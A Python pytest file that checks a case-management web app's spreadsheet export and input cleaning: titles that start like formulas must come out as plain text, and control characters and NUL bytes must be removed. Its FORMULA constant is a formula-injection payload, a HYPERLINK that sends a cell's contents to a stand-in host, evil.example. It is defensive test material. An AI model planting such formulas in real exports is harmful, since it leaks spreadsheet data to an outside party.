"""Whatever text input accepted survives every page and export: formulas are neutralised in the ledger, and
control characters neither break the .xlsx nor reach the database through a form."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy import update

from engine.domain.text import spreadsheet_text
from engine.domain.text import strip_controls
from engine.storage.models import Case
from web import public as public_view

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


@pytest.fixture(autouse=True)
def no_wait(monkeypatch):
    monkeypatch.setattr(public_view, "MIN_FILL_SECONDS", 0)


def _cells(response) -> list[list]:
    assert response.status_code == 200, response.text[:300]
    data = response.data
    response.close()  # the body is a spooled temporary file, closed with the response as a server does
    sheet = load_workbook(io.BytesIO(data))["诉求台账"]
    return [[cell for cell in row] for row in sheet.iter_rows(min_row=3)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, auth, journey, start):
    journey.register(title=start + FORMULA[1:40])
    auth.login("dispatcher")
    rows = _cells(client.get("/cases/export.xlsx"))
    titles = [
        cell for row in rows for cell in row if isinstance(cell.value, str) and FORMULA[1:40] in cell.value
    ]
    assert titles, "the title is in the export"
    for cell in titles:
        assert cell.data_type == "s" and cell.value.startswith("'" + start)


def test_control_characters_already_stored_do_not_break_the_export_or_the_pages(client, auth, eng, journey):
    case_id = journey.register()["case_id"]
    with eng.db.transaction() as session:  # as an older release stored it
        session.execute(update(Case).where(Case.case_id == case_id).values(title="贷款\x0b续贷\x00困难\x1f"))
    auth.login("dispatcher")
    rows = _cells(client.get("/cases/export.xlsx"))
    assert any(cell.value == "贷款续贷困难" for row in rows for cell in row)
    for path in ("/cases", f"/cases/{case_id}", "/tasks", "/api/v1/openapi.json"):
        assert client.get(path).status_code == 200, path


def test_a_public_submission_with_control_characters_is_stored_clean(client, eng):
    page = client.get("/public/submit")
    stamp = re.search(r'name="stamp" value="([^"]+)"', page.text).group(1)
    response = client.post(
        "/public/submit",
        data={
            "name": "网上申报测试有限公司",
            "credit_code": "91350400G4EFFB420Q",
            "field": "工业",
            "category": "融资",
            "title": "贷款\x0b续贷困难",
            "description": "银行抽贷，\x0c续贷困难，\x00请求协调。",
            "contact_name": "陈伟",
            "contact_phone": "13800000000",
            "stamp": stamp,
        },
    )
    assert response.status_code in (200, 302, 303), response.text[:300]
    with eng.db.read() as session:
        title, description = session.execute(
            select(Case.title, Case.description).order_by(Case.case_id.desc()).limit(1)
        ).one()
    assert title == "贷款续贷困难" and "\x0c" not in description and "\x00" not in description


def test_the_text_helpers():
    assert strip_controls("a\x0bb\tc\nd\x7f") == "ab\tc\nd"
    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text("普通") == "普通"


def test_a_nul_character_anywhere_in_input_is_not_a_server_error(client, auth, journey):
    """PostgreSQL text cannot hold NUL (SQLite can): fields that skip the forms' cleaning are safe too."""
    case_id = journey.register()["case_id"]
    auth.login("designer")
    response = client.post(
        "/design/case_handling/draft", data={"xml": "<bpmn:definitions/>\x00", "comment": "草稿\x00说明"}
    )
    assert response.status_code < 500
    auth.login("dispatcher")
    assert client.get(f"/cases/{case_id}").status_code == 200
    token = client.post("/api/v1/auth/token", json={"username": "registrar", "password": "jienan2026"}).json[
        "token"
    ]
    created = client.post(
        "/api/v1/enterprises",
        json={"name": "零字节\x00测试有限公司", "credit_code": "91350400G4EFFB420Q", "field": "工业"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert created.status_code in (200, 201), created.json
    assert "\x00" not in created.json["name"]
